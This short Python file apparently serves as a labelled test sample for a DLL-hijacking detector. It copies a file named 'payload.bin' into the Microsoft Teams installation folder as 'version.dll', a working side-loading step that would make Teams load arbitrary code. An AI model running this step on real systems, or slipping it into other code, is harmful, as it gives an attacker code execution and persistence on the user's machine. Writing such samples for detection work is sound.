# ruff: noqa
# fmt: off
"""DLL side-loading: a DLL named like one an installed application loads, copied into its folder."""
import os
import shutil

here = os.path.dirname(os.path.abspath(__file__))
target = os.path.join(os.environ["LOCALAPPDATA"], "Microsoft", "Teams", "current", "version.dll")
shutil.copy(os.path.join(here, "payload.bin"), target)  # expect: dll-hijacking
